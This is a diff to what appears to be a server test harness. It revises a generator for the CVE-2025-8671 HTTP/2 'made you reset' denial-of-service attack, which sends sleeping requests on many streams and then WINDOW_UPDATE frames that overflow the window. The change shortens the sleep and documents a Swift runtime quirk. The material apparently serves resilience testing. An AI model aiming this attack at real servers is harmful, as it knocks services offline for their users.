@@ -100,8 +100,11 @@ def split_reset():
 
 
 def made_you_reset():
-    """CVE-2025-8671: a window that overflows has the server reset the stream, while the handler runs."""
-    block = request("Sleep", [("x-ms", "3600000"), ("x-key", "attack")])
+    """CVE-2025-8671: a window that overflows has the server reset the stream, while the handler runs.
+
+    It sleeps a second, because Swift's runtime keeps a sleep that was cancelled until it would have ended.
+    """
+    block = request("Sleep", [("x-ms", "1000"), ("x-key", "attack")])
     return Attack(batches(
         call(stream, block) + frame(WINDOW_UPDATE, stream, number(LARGEST_WINDOW)) for stream in streams()
     ))
